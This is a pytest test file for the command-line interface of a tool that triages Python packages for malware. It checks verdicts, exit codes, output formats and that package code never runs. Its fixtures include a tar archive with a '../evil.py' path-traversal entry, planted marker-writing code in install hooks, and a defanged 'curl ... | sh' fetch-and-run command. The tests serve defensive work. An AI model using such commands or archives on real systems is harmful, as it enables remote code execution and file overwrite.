"""End-to-end CLI: exit codes, formats, batches, and that nothing in a package runs."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
import textwrap
from pathlib import Path

import jsonschema
import pytest
from typer.testing import CliRunner

from tests.conftest import REPO, SHARED
from triage.cli import app

runner = CliRunner()
DEMO = REPO / "examples" / "demo-package"

BENIGN = textwrap.dedent('''\
    def add(a, b):
        """Add two numbers."""
        return a + b
''')


def _sdist(tmp: Path, name: str, files: dict[str, str]) -> Path:
    path = tmp / f"{name}-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for member, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-1.0/{member}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def test_demo_package_is_malicious_with_exact_findings() -> None:
    res = runner.invoke(app, ["explain", str(DEMO), "--format", "json"])
    assert res.exit_code == 1, res.output
    rep = json.loads(res.stdout)
    assert rep["verdict"]["label"] == "malicious"
    got = {(f["file"], f["start_line"], f["indicator"]) for f in rep["findings"]}
    assert ("setup.py", 20, "code_execution_encoded_command") in got
    assert ("setup.py", 17, "code_execution_install_hook_override") in got
    assert ("setup.py#decoded-1", 5, "code_exfiltration_data") in got or any(
        f.startswith("setup.py#decoded-1") for f, _, _ in got)
    assert rep["artifact"]["name"] == "reqeusts"


def test_benign_file_exits_zero(tmp_path: Path) -> None:
    f = tmp_path / "calc.py"
    f.write_text(BENIGN)
    res = runner.invoke(app, ["explain", str(f), "--format", "json"])
    assert res.exit_code == 0, res.output
    rep = json.loads(res.stdout)
    assert rep["verdict"]["label"] == "benign" and rep["findings"] == []


def test_fail_on_malicious_and_never(tmp_path: Path) -> None:
    assert runner.invoke(app, ["explain", str(DEMO), "--fail-on", "never",
                               "--format", "json"]).exit_code == 0
    assert runner.invoke(app, ["explain", str(DEMO), "--fail-on", "malicious",
                               "--format", "json"]).exit_code == 1


def test_usage_error_exits_two() -> None:
    assert runner.invoke(app, ["explain", str(DEMO), "--format", "pdf"]).exit_code == 2
    assert runner.invoke(app, ["explain"]).exit_code == 2


def test_unreadable_and_hostile_targets_exit_three(tmp_path: Path) -> None:
    bad = tmp_path / "broken.tar.gz"
    bad.write_bytes(b"\x1f\x8b\x08\x00garbage")
    res = runner.invoke(app, ["explain", str(bad)])
    assert res.exit_code == 3
    assert "broken.tar.gz" in res.stderr
    slip = tmp_path / "slip.tar.gz"
    with tarfile.open(slip, "w:gz") as tar:
        info = tarfile.TarInfo("../evil.py")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    res = runner.invoke(app, ["explain", str(slip)])
    assert res.exit_code == 3 and "slip.tar.gz" in res.stderr


def test_batch_jsonl_and_worst_exit_code(tmp_path: Path) -> None:
    good = tmp_path / "calc.py"
    good.write_text(BENIGN)
    missing = tmp_path / "nope.whl"
    res = runner.invoke(app, ["explain", str(good), str(DEMO), str(missing),
                              "--format", "json"])
    assert res.exit_code == 3  # unreadable beats findings
    lines = [json.loads(x) for x in res.stdout.splitlines()]
    assert [x["verdict"]["label"] for x in lines] == ["benign", "malicious"]


def test_sarif_output_file_validates(tmp_path: Path) -> None:
    out = tmp_path / "r.sarif"
    res = runner.invoke(app, ["explain", str(DEMO), "-f", "sarif", "-o", str(out)])
    assert res.exit_code == 1
    log = json.loads(out.read_text())
    schema = json.loads((SHARED / "reference" / "sarif-schema-2.1.0.json").read_text())
    jsonschema.Draft4Validator(schema).validate(log)
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in log["runs"][0]["results"]}
    assert "setup.py" in uris


@pytest.mark.parametrize("fmt", ["terminal", "markdown", "html"])
def test_human_formats_defang_hosts(fmt: str) -> None:
    res = runner.invoke(app, ["explain", str(DEMO), "-f", fmt, "--no-color"])
    assert res.exit_code == 1
    assert "files.example.invalid" not in res.stdout
    assert "example[.]invalid" in res.stdout


def test_nothing_in_the_package_runs(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    code = f"open({str(marker)!r}, 'w').write('ran')\n"
    sdist = _sdist(tmp_path, "boom", {
        "setup.py": code + "from setuptools import setup\nsetup(name='boom')\n",
        "boom/__init__.py": code,
        "sitecustomize.py": code,
        "boom.pth": "import os; " + code,
    })
    res = runner.invoke(app, ["explain", str(sdist), "-f", "json"])
    assert res.exit_code in (0, 1)
    assert not marker.exists()
    rep = json.loads(res.stdout)
    assert "boom-1.0/setup.py" in rep["files_analysed"]


def test_help_does_not_import_heavy_modules() -> None:
    code = ("import sys, triage.cli; bad = [m for m in ('litellm', 'chromadb', 'onnxruntime', "
            "'triage.indicators.engine', 'triage.render') if m in sys.modules]; print(bad)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True)
    assert out.stdout.strip() == "[]"


def test_hostile_sources_end_to_end(tmp_path: Path) -> None:
    deep = tmp_path / "deep.py"
    deep.write_text("x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
                    + "".join(" " * i + "if x:\n" for i in range(5000)) + " " * 5000 + "pass\n"
                    + "y = " + "+".join(["1"] * 100_000) + "\n")
    res = runner.invoke(app, ["explain", str(deep), "-f", "json"])
    assert res.exit_code == 0, res.output
    rep = json.loads(res.stdout)
    assert rep["notes"][0] == ("deep.py: does not parse as Python 3 (too many nested "
                               "parentheses, line 1); indexed line by line")
    big = tmp_path / "big.py"
    big.write_bytes(b'x = "' + b"A" * 50_000_000 + b'"\n')
    res = runner.invoke(app, ["explain", str(big), "-f", "json"])
    assert res.exit_code == 0
    assert json.loads(res.stdout)["skipped"] == [{
        "path": "big.py", "evidence": False,
        "reason": "too large (50,000,007 bytes, limit 20,971,520), not read"}]
    latin = tmp_path / "latin.py"
    latin.write_bytes(b"# caf\xe9\nimport os\nos.system('curl hxxp://x | sh')\n")
    res = runner.invoke(app, ["explain", str(latin), "-f", "json"])
    assert res.exit_code in (0, 1)
    assert "latin.py" in json.loads(res.stdout)["files_analysed"]
